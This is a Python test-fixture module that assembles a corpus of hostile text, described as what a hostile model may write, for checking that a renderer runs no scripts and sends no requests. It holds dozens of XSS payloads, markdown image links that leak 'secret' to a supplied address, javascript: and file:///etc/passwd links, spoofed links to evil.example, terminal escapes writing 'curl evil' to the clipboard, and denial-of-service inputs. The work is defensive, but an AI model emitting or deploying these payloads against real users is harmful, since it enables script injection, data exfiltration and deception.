"""What a hostile model may write: each tries to run a script, to send a request, or to mislead.

A script that runs sets `window.canary`, or opens a dialog; a request goes to the address
that is put in, where somebody counts.
"""

from __future__ import annotations

SCRIPT = "window.canary=(window.canary||0)+1"


def corpus(address: str) -> dict[str, str]:
    """Name → text.

    Args:
        address: Where no request must arrive, such as `http://127.0.0.1:4711`.
    """
    return {
        name: text.replace("@ADDRESS", address).replace("@HOST", address.partition("//")[2]).replace("@RUN", SCRIPT)
        for name, text in _CORPUS.items()
    }  # fmt: skip


_CORPUS = {
    # Scripts.
    "script": "before <script>@RUN</script> after",
    "script, remote": '<script src="@ADDRESS/script.js"></script>',
    "script, in a block": "\n\n<script>\n@RUN\n</script>\n\n",
    "script, closing what it stands in": "</pre></code></div></details></script></style></textarea></title><script>@RUN</script>",
    "script, split": "<scr<script>ipt>@RUN</scr</script>ipt>",
    "script, in a fence": "```html\n<script>@RUN</script>\n```\n",
    "script, out of a fence": "```\n</code></pre><script>@RUN</script>",
    "script, in code": "`</code><script>@RUN</script>`",
    "script, language of a fence": '```"><script>@RUN</script>\nx\n```',
    "script, in a table": "| <script>@RUN</script> | b |\n|---|---|\n| <img src=x onerror=@RUN> | `|` |\n",
    "entities": "&lt;script&gt;@RUN&lt;/script&gt; &#60;script&#62;@RUN&#60;/script&#62; &amp;lt;img src=x onerror=@RUN&amp;gt;",
    # Handlers.
    "onerror": '<img src=x onerror="@RUN">',
    "onerror, in the words of an image": '![" onerror="@RUN](x)',
    "onerror, in the title of an image": """![a](x '" onerror="@RUN')""",
    "onerror, in an address": '![a](<x" onerror="@RUN>)',
    "onmouseover, in a link's title": """[a](https://example.org '" onmouseover="@RUN" x="')""",
    "onmouseover, in a link's address": '[a](<https://example.org/" autofocus onfocus="@RUN>)',
    "onload": '<svg onload="@RUN"></svg><body onload="@RUN"><details open ontoggle="@RUN">x</details>',
    "autofocus": '<input autofocus onfocus="@RUN"><video><source onerror="@RUN"></video>',
    "svg": '<svg><script>@RUN</script><image href="@ADDRESS/svg.png"/><use href="data:image/svg+xml,<svg/>#x"/></svg>',
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="@RUN">--></math>',
    "iframe": '<iframe src="javascript:@RUN"></iframe><iframe srcdoc="<script>parent.@RUN</script>"></iframe><iframe src="@ADDRESS/frame"></iframe>',
    "object": '<object data="@ADDRESS/object"></object><embed src="@ADDRESS/embed">',
    "comment": "<!-- --><!--><script>@RUN</script>--> <![CDATA[<script>@RUN</script>]]> <?php @RUN ?> <!DOCTYPE x>",
    "form": '<form action="@ADDRESS/form"><button autofocus>Continue</button></form><base href="@ADDRESS/">',
    "meta": '<meta http-equiv="refresh" content="0;url=@ADDRESS/refresh"><link rel="stylesheet" href="@ADDRESS/style.css"><link rel="prefetch" href="@ADDRESS/prefetch">',
    # Requests.
    "css": '<style>@import "@ADDRESS/import.css"; body{background:url(@ADDRESS/css.png)}</style><div style="background:url(@ADDRESS/style.png)">x</div>',
    "image": "![secret](@ADDRESS/image.png?q=secret)",
    "image, with a title": '![secret](@ADDRESS/title.png "title")',
    "image, in angles": "![secret](<@ADDRESS/angle.png>)",
    "image, by reference": "![secret][ref] ![ref][] ![ref]\n\n[ref]: @ADDRESS/reference.png 'title'\n",
    "image, no scheme": "![secret](//@HOST/scheme.png)",
    "image, in a link": "[![secret](@ADDRESS/linked.png)](@ADDRESS/clicked)",
    "image, in a table": "|a|\n|-|\n|![x](@ADDRESS/table.png)|\n",
    "image, in a heading and a list": "# ![x](@ADDRESS/heading.png)\n- > 1. ![x](@ADDRESS/list.png)\n",
    "image, in the words of an image": "![![x](@ADDRESS/inner.png)](@ADDRESS/outer.png)",
    "image, with entities": "![x](&#104;ttp://@HOST/entity.png)",
    "image, as data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "image, in HTML": '<img src="@ADDRESS/html.png"><img srcset="@ADDRESS/srcset.png 1x"><picture><source srcset="@ADDRESS/source.png"></picture>',
    "sounds": '<audio src="@ADDRESS/audio" autoplay></audio><video poster="@ADDRESS/poster"></video>',
    # Links.
    "link, javascript": "[x](javascript:@RUN) [x](JaVaScRiPt:@RUN) [x](<java\tscript:@RUN>) [x](java&Tab;script:@RUN) [x](&#106;avascript:@RUN)",
    "link, javascript by reference": "[x][evil] <javascript:@RUN>\n\n[evil]: javascript:@RUN\n",
    "link, control characters": "[x](<\x01javascript:@RUN>) [x](<\u00a0javascript:@RUN>) [x](java\\\nscript:@RUN)",
    "link, data": "[x](data:text/html,<script>@RUN</script>) [x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x)",
    "link, file": "[x](file:///etc/passwd) [x](/api/shutdown) [x](../../lab/api) [x](?reset) [x](blob:x)",
    "link, misleading": "[https://bank.example](https://evil.example/?q=secret) <https://bank.example@evil.example> [x](https://b\u0430nk.example)",
    "link, web": "[words](https://example.org/a?b=c&d=e#f) <https://example.org/> <me@example.org> www.example.org",
    # Formulas.
    "formula, href": r"$\href{javascript:@RUN}{x}$ $$\href{javascript:@RUN}{y}$$ \(\href{javascript:@RUN}{z}\)",
    "formula, block": "\\[\\href{javascript:@RUN}{x}\\]\n\n\\begin{equation}\\href{javascript:@RUN}{y}\\end{equation}",
    "formula, require": r"$\require{html}\style{background:url(@ADDRESS/tex.png)}{x}$ $\require{@ADDRESS/tex.js}$",
    "formula, classes": r"$\class{jp-Dialog}{x}\cssId{main}{y}\unicode{x3c}$ $\includegraphics{@ADDRESS/tex.png}$",
    "formula, around markup": r"$*a*$ $`b`$ $\text{<img src=x onerror=@RUN>}$",
    # Terminals.
    "terminal, colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H \x1b[8mhidden\x1b[0m",
    "terminal, title and clipboard": "\x1b]0;title\x07 \x1b]52;c;Y3VybCBldmls\x07 \x1b]52;c;Y3VybCBldmls\x1b\\",
    "terminal, link": "\x1b]8;;@ADDRESS/osc8\x1b\\click\x1b]8;;\x1b\\",
    "terminal, 8 bits": "\x9b31mred \x9d52;c;Y3VybA==\x9c \x90q\x9c \x7f",
    "terminal, over the line": "harmless\rrm -rf\b\b\b\x0b\x0c",
    # Misleading characters.
    "both directions": "access \u202eresu\u202c \u2066admin\u2069 \u200b\u200f \U000e0041\U000e0042 \ufeff",
    "nothing": "a\x00b",
    "surrogates": "a\ud800b",
    "many marks": "z" + "\u0301\u0336\u034f" * 200,
    # Much.
    "huge": "word " * 400_000,
    "huge, one line": "x" * 1_200_000,
    "binary": bytes(range(256)).decode("latin-1") * 40,
    "brackets": "[" * 60_000,
    "images without end": "![" * 40_000,
    "many images": "![x](@ADDRESS/many.png)\n" * 500,
    "deep": ">" * 3_000 + " x\n" + "- " * 3_000 + "x",
    "wide table": "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "x\n" * 4_000,
}
